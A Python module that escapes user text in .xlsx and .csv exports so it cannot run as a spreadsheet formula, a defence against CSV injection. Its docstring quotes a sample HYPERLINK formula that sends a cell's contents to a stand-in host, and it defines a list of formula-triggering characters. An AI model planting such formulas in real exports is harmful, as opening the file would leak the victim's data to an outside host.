"""Writing user text into spreadsheets (.xlsx, .csv) without it ever becoming a live formula.

A title such as `=HYPERLINK("http://x/?"&B3,"Xem")` is stored as typed; written naively, Excel
or LibreOffice would run it when the file is opened (CSV injection, OWASP). Every export writes
its cells through this module:

- .xlsx: every string is a string cell (openpyxl would otherwise store text starting with "=" as
  a formula), and text starting with a formula character also gets Excel's quote prefix, so
  editing the cell keeps it text. The text itself is unchanged.
- .csv: there are no cell types, so text starting with a formula character is prefixed with an
  apostrophe, as OWASP recommends.

Numbers, dates and booleans are written as they are.
"""
import csv

from openpyxl.cell.cell import TYPE_STRING, Cell

# OWASP CSV injection: = + - @, tab and carriage return start a formula in some spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value):
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def as_text(cell: Cell):
    """Make an already written cell hold its string as text, never as a formula."""
    if isinstance(cell.value, str):
        cell.data_type = TYPE_STRING
        if looks_like_formula(cell.value):
            cell.quotePrefix = True
    return cell


def set_cell(sheet, row, column, value):
    """sheet.cell(row, column, value) for any value, text never a formula."""
    return as_text(sheet.cell(row=row, column=column, value=value))


def append_row(sheet, values):
    """sheet.append(values), text never a formula. Returns the number of the new row."""
    sheet.append(list(values))
    row = sheet.max_row
    for cell in sheet[row]:
        as_text(cell)
    return row


def csv_value(value):
    """One CSV field: text starting with a formula character gets a leading apostrophe."""
    if looks_like_formula(value):
        return "'" + value
    return value


def csv_writer(buffer):
    """A csv.writer whose rows are made safe field by field (writerow / writerows)."""
    return _SafeWriter(csv.writer(buffer))


class _SafeWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([csv_value(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
